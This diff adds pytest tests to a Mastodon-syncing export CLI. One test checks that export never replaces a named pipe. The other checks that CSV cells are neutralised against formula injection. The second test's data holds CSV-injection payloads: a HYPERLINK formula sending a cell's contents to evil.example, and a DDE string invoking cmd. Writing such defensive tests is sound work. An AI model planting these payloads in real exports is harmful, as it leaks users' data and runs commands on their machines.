@@ -100,6 +100,19 @@ def test_export_to_an_impossible_place_is_one_line(world: World, cli, tmp_path: 
     assert result.code == 2 and words in result.err and result.err.count("\n") == 1, result
 
 
+def test_export_never_replaces_a_device_or_a_pipe(world: World, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    _synced(world, cli)
+    pipe = tmp_path / "a-pipe"
+    os.mkfifo(pipe)
+    for extra in ([], ["--force"]):
+        result = cli("export", "--query", "sandals", "--format", "json", "--output", str(pipe), *extra)
+        assert result.code == 2 and "not a regular file" in result.err, result
+        assert pipe.is_fifo()
+        backup = cli("backup", "--output", str(pipe), *extra)
+        assert backup.code == 2 and "not a regular file" in backup.err, backup
+        assert pipe.is_fifo()
+
+
 @pytest.fixture
 def tiny_filesystem(tmp_path: Path) -> Iterator[Path]:
     """A real filesystem with almost no room left (a tmpfs: needs root)."""
@@ -146,3 +159,24 @@ def test_a_failure_after_writing_leaves_nothing(world: World, cli, tmp_path: Pat
     result = cli("export", "--query", "sandals", "--format", "pdf", "--output", str(target))
     assert result.code == 1 and "disk is full" in result.err, result
     assert list(tmp_path.glob("*new.pdf*")) == []
+
+
+def test_csv_cells_never_start_a_formula(world: World, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """OWASP's CSV injection: a customer's name or words that a spreadsheet
+    would run as a formula are written so that it shows them as text."""
+    import csv
+
+    evil = world.server.add_account("mallory", '=HYPERLINK("http://evil.example/?"&A2,"Refund form")')
+    world.server.post(evil, "@shop -2+3 refunds please")
+    world.server.post(evil, "@shop @SUM(1+1)*cmd|' /C calc'!A0")
+    assert cli("accounts", "add", "mastodon", "--instance", world.url, "--token-stdin", stdin=world.token + "\n").code == 0
+    assert cli("sync", "--once").code == 0
+    out = tmp_path / "all.csv"
+    assert cli("export", "--query", "from:mallory", "--format", "csv", "--output", str(out)).code == 0
+    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
+    assert len(rows) == 2
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        assert row["author_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A2,"Refund form")'
+    assert {r["text"] for r in rows} == {"'@shop -2+3 refunds please", "'@shop @SUM(1+1)*cmd|' /C calc'!A0"}
